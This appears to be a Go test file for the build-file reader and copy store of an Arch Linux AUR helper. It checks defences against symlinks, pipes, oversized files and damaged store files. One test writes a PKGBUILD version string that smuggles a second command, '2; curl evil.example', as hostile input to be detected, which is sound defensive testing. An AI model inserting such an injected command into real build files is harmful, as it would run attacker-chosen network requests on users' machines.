package buildfiles

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"golang.org/x/sys/unix"

	"github.com/omg-arch/omg/shared/atomicfile"
	"github.com/omg-arch/omg/shared/need"
	"github.com/omg-arch/omg/shared/paths"
)

var at = time.Date(2026, 9, 21, 12, 0, 0, 0, time.UTC)

// newUser returns the environment of a new user with the given variables, and the user's home directory.
func newUser(t *testing.T, variables ...string) (paths.Env, string) {
	t.Helper()
	home := t.TempDir()
	require.NoError(t, os.Chmod(home, 0o755))
	values := map[string]string{"HOME": home}
	for i := 0; i < len(variables); i += 2 {
		values[variables[i]] = filepath.Join(home, variables[i+1])
	}
	return paths.Env{UID: os.Getuid(), Getenv: func(name string) string { return values[name] }}, home
}

// put writes files into a directory: names and contents in turn.
func put(t *testing.T, dir string, files ...string) {
	t.Helper()
	require.NoError(t, os.MkdirAll(dir, 0o700))
	for i := 0; i < len(files); i += 2 {
		require.NoError(t, os.WriteFile(filepath.Join(dir, files[i]), []byte(files[i+1]), 0o664))
	}
}

func TestFindDir(t *testing.T) {
	env, home := newUser(t)
	_, err := FindDir(env, "demo")
	require.ErrorIs(t, err, ErrNoBuildFiles)
	yay, paru := filepath.Join(home, ".cache/yay/demo"), filepath.Join(home, ".cache/paru/clone/demo")
	put(t, yay, "PKGBUILD", "yay")
	put(t, paru, "PKGBUILD", "paru")
	for i, newest := range []string{yay, paru, yay} {
		require.NoError(t, os.Chtimes(filepath.Join(newest, "PKGBUILD"), at, time.Now().Add(time.Duration(i+1)*time.Hour)))
		dir, err := FindDir(env, "demo")
		require.NoError(t, err)
		require.Equal(t, newest, dir.Path, "the one written last")
	}
	for _, name := range []string{"", ".", "..", "../yay/demo", "/", "-demo", "other"} {
		_, err := FindDir(env, name)
		require.ErrorIs(t, err, ErrNoBuildFiles, name)
	}
	env, home = newUser(t, "AURDEST", "aur", "XDG_CACHE_HOME", "cache")
	for _, dir := range []string{"aur/a", "cache/yay/b", "cache/paru/clone/c"} {
		put(t, filepath.Join(home, dir), "PKGBUILD", "")
		found, err := FindDir(env, filepath.Base(dir))
		require.NoError(t, err)
		require.Equal(t, filepath.Join(home, dir), found.Path)
	}
}

func TestRead(t *testing.T) {
	dir := t.TempDir()
	put(t, dir, "PKGBUILD", "p", ".SRCINFO", "s", "a.install", "a", "demo.tar.gz", "x", "b.install.bak", "x", "empty.install", "")
	require.NoError(t, os.Mkdir(filepath.Join(dir, "src.install"), 0o700))
	files, err := Read(dir, os.Getuid())
	require.NoError(t, err)
	require.Equal(t, Files{"PKGBUILD": []byte("p"), ".SRCINFO": []byte("s"), "a.install": []byte("a"), "empty.install": {}}, files)
}

// TestRead_Hostile checks that links, pipes and sockets are not read, and that sizes and numbers are limited.
func TestRead_Hostile(t *testing.T) {
	secret := filepath.Join(t.TempDir(), "secret")
	require.NoError(t, os.WriteFile(secret, []byte("secret"), 0o600))
	for name, c := range map[string]struct {
		prepare func(dir string)
		want    Files
		wantErr string
	}{
		"links": {func(dir string) {
			require.NoError(t, os.Symlink(secret, filepath.Join(dir, ".SRCINFO")))
			require.NoError(t, os.Symlink(secret, filepath.Join(dir, "a.install")))
		}, Files{"PKGBUILD": []byte("p")}, ""},
		"a pipe and a socket": {func(dir string) {
			require.NoError(t, unix.Mkfifo(filepath.Join(dir, "a.install"), 0o600))
			require.NoError(t, unix.Mknod(filepath.Join(dir, "b.install"), unix.S_IFSOCK|0o600, 0))
		}, Files{"PKGBUILD": []byte("p")}, ""},
		"a link to the PKGBUILD": {func(dir string) {
			require.NoError(t, os.Remove(filepath.Join(dir, "PKGBUILD")))
			require.NoError(t, os.Symlink(secret, filepath.Join(dir, "PKGBUILD")))
		}, nil, "no PKGBUILD"},
		"a large file":     {func(dir string) { put(t, dir, ".SRCINFO", strings.Repeat("x", maxFileSize+1)) }, nil, "more than 262144 bytes"},
		"the largest file": {func(dir string) { put(t, dir, ".SRCINFO", strings.Repeat("x", maxFileSize)) }, Files{"PKGBUILD": []byte("p"), ".SRCINFO": []byte(strings.Repeat("x", maxFileSize))}, ""},
		"large files": {func(dir string) {
			for i := range 5 {
				put(t, dir, fmt.Sprint(i, ".install"), strings.Repeat("x", maxFileSize))
			}
		}, nil, "the build files have more than"},
		"many scripts": {func(dir string) {
			for i := range maxInstallScripts + 1 {
				put(t, dir, fmt.Sprint(i, ".install"), "")
			}
		}, nil, "more than 32 install scripts"},
		"an odd name": {func(dir string) { put(t, dir, "\xff.install", "") }, nil, "is not UTF-8"},
	} {
		t.Run(name, func(t *testing.T) {
			dir := t.TempDir()
			put(t, dir, "PKGBUILD", "p")
			c.prepare(dir)
			files, err := Read(dir, os.Getuid())
			if c.wantErr != "" {
				require.ErrorContains(t, err, c.wantErr)
				return
			}
			require.NoError(t, err)
			require.Equal(t, c.want, files)
		})
	}
}

// TestRead_Dir checks that the directory must exist and be a directory of the user, and not a link to one.
func TestRead_Dir(t *testing.T) {
	dir := t.TempDir()
	put(t, filepath.Join(dir, "demo"), "PKGBUILD", "p")
	require.NoError(t, os.Symlink("demo", filepath.Join(dir, "link")))
	_, err := Read(filepath.Join(dir, "link"), os.Getuid())
	require.ErrorIs(t, err, unix.ENOTDIR)
	_, err = Read(filepath.Join(dir, "none"), os.Getuid())
	require.ErrorIs(t, err, ErrNoBuildFiles)
	_, err = Read(filepath.Join(dir, "demo/PKGBUILD"), os.Getuid())
	require.ErrorIs(t, err, unix.ENOTDIR)
	_, err = Read(filepath.Join(dir, "demo"), os.Getuid()+1)
	require.ErrorIs(t, err, paths.ErrUntrusted)
}

// TestRead_OtherOwner checks that files of other users are not read.
func TestRead_OtherOwner(t *testing.T) {
	need.Root(t)
	dir := t.TempDir()
	put(t, dir, "PKGBUILD", "p", "a.install", "a")
	require.NoError(t, os.Chown(filepath.Join(dir, "a.install"), 1, 1))
	files, err := Read(dir, os.Getuid())
	require.NoError(t, err)
	require.Equal(t, Files{"PKGBUILD": []byte("p")}, files)
}

// newStore returns the store of a new user.
func newStore(t *testing.T) *Store {
	t.Helper()
	env, _ := newUser(t)
	s, err := OpenStore(env)
	require.NoError(t, err)
	return s
}

func files(pkgbuild string) Files { return Files{"PKGBUILD": []byte(pkgbuild)} }

// numbers returns the numbers of copies.
func numbers(copies []Copy) (list []int) {
	for _, c := range copies {
		list = append(list, c.Number)
	}
	return list
}

func TestStore_Update(t *testing.T) {
	s := newStore(t)
	copies, err := s.Copies("demo")
	require.NoError(t, err)
	require.Empty(t, copies)
	binary := Files{"PKGBUILD": []byte("\x00\xff\n"), "a.install": {}}
	for range 2 { // the second time, there is nothing new
		copies, err = s.Update("demo", binary, at)
		require.NoError(t, err)
		require.Equal(t, []Copy{{1, at, binary}}, copies)
	}
	for i := range 10 {
		_, err = s.Update("demo", files(fmt.Sprint(i)), at.Add(time.Hour))
		require.NoError(t, err)
	}
	copies, err = s.Copies("demo")
	require.NoError(t, err)
	require.Equal(t, []int{4, 5, 6, 7, 8, 9, 10, 11}, numbers(copies), "the last 8")
	require.Equal(t, files("9"), copies[7].Files)
	fi, err := os.Stat(s.path("demo"))
	require.NoError(t, err)
	require.EqualValues(t, 0o600, fi.Mode())
	fi, err = os.Stat(s.dir)
	require.NoError(t, err)
	require.EqualValues(t, 0o700, fi.Mode().Perm())
	other, err := s.Copies("other")
	require.NoError(t, err)
	require.Empty(t, other)
}

// TestStore_SameBuild checks that a version that makepkg has written is not another version of the build files.
func TestStore_SameBuild(t *testing.T) {
	const text = "pkgver=%s\npkgrel=1\npkgver() {\n\techo 2\n}\n"
	old := files(fmt.Sprintf(text, "1"))
	require.True(t, old.isSameBuild(files(fmt.Sprintf(text, "r2.abc"))))
	require.False(t, old.isSameBuild(files(fmt.Sprintf(text, "2; curl evil.example"))))
	require.False(t, old.isSameBuild(files(fmt.Sprintf(text, "2")+"\n")))
	require.False(t, old.isSameBuild(Files{"PKGBUILD": old["PKGBUILD"], "a.install": {}}))
	require.False(t, files("pkgver=1\n").isSameBuild(files("pkgver=2\n")))
}

// TestStore_Damaged checks that a file that omg did not write is neither used nor replaced.
func TestStore_Damaged(t *testing.T) {
	for name, content := range map[string]string{
		"nonsense":        "hostile",
		"another version": `{"schema":2,"pkgbase":"demo","copies":[]}`,
		"another base":    `{"schema":1,"pkgbase":"other","copies":[]}`,
		"many copies":     `{"schema":1,"pkgbase":"demo","copies":[` + strings.Repeat("{},", maxCopies) + `{}]}`,
		"large":           `{"schema":1,"pkgbase":"demo","copies":[]}` + strings.Repeat(" ", maxCopiesSize),
	} {
		t.Run(name, func(t *testing.T) {
			s := newStore(t)
			put(t, s.dir, "demo.json", content)
			require.NoError(t, os.Chmod(s.path("demo"), 0o600))
			copies, err := s.Update("demo", files("new"), at)
			require.ErrorContains(t, err, s.path("demo"))
			require.Equal(t, []Copy{{1, at, files("new")}}, copies)
			kept, err := os.ReadFile(s.path("demo"))
			require.NoError(t, err)
			require.Equal(t, content, string(kept))
		})
	}
	s := newStore(t)
	put(t, s.dir, "target", `{"schema":1,"pkgbase":"demo","copies":[]}`)
	require.NoError(t, os.Symlink("target", s.path("demo")))
	_, err := s.Copies("demo")
	require.ErrorIs(t, err, unix.ELOOP)
}

// TestStore_WriteFails lets each operation of writing fail once, as on a full disk. The old copies stay, nothing half-written is left, and
// the new copy can be compared nevertheless.
func TestStore_WriteFails(t *testing.T) {
	s := newStore(t)
	_, err := s.Update("demo", files("one"), at)
	require.NoError(t, err)
	old, err := os.ReadFile(s.path("demo"))
	require.NoError(t, err)
	for _, op := range []atomicfile.Op{atomicfile.OpCreate, atomicfile.OpWrite, atomicfile.OpChmod, atomicfile.OpSync, atomicfile.OpClose, atomicfile.OpRename} {
		t.Run(string(op), func(t *testing.T) {
			fault := atomicfile.Fault(func(now atomicfile.Op, path string) error {
				if now == op && path == s.path("demo") {
					return unix.ENOSPC
				}
				return nil
			})
			atomicfile.TestFault.Store(&fault)
			defer atomicfile.TestFault.Store(nil)
			copies, err := s.Update("demo", files("two"), at)
			require.ErrorIs(t, err, unix.ENOSPC)
			require.Equal(t, []int{1, 2}, numbers(copies))
			kept, err := os.ReadFile(s.path("demo"))
			require.NoError(t, err)
			require.Equal(t, old, kept)
			entries, err := os.ReadDir(s.dir)
			require.NoError(t, err)
			require.Len(t, entries, 1)
		})
	}
}

// TestStore_Killed checks that what a killed writer left is removed, also that of another package base.
func TestStore_Killed(t *testing.T) {
	s := newStore(t)
	put(t, s.dir, ".demo.json.999999999.tmp", `{"sch`, ".a.json.b.json.999999999.tmp", "", ".unrelated.tmp", "")
	copies, err := s.Update("other", files("one"), at)
	require.NoError(t, err)
	require.Len(t, copies, 1)
	var left []string
	entries, err := os.ReadDir(s.dir)
	require.NoError(t, err)
	for _, e := range entries {
		left = append(left, e.Name())
	}
	require.Equal(t, []string{".unrelated.tmp", "other.json"}, left)
}

// TestStore_Limits checks that the copies of the package bases that have not changed for the longest time are removed if there are too
// many.
func TestStore_Limits(t *testing.T) {
	s := newStore(t)
	for i := range maxBases {
		put(t, s.dir, fmt.Sprint("p", i, ".json"), "{}")
	}
	require.NoError(t, os.Chtimes(filepath.Join(s.dir, "p7.json"), at, at))
	_, err := s.Update("demo", files("one"), at)
	require.NoError(t, err)
	require.NoFileExists(t, filepath.Join(s.dir, "p7.json"))
	entries, err := os.ReadDir(s.dir)
	require.NoError(t, err)
	require.Len(t, entries, maxBases)
	// A sparse file counts with its size.
	require.NoError(t, os.Truncate(filepath.Join(s.dir, "p9.json"), maxStoreSize))
	require.NoError(t, os.Chtimes(filepath.Join(s.dir, "p9.json"), at, at))
	_, err = s.Update("demo", files("two"), at)
	require.NoError(t, err)
	require.NoFileExists(t, filepath.Join(s.dir, "p9.json"))
}

// TestOpenStore_NoHome checks that a user without a home directory has no store.
func TestOpenStore_NoHome(t *testing.T) {
	_, err := OpenStore(paths.Env{Getenv: func(string) string { return "" }})
	require.ErrorContains(t, err, "neither XDG_STATE_HOME nor HOME")
}
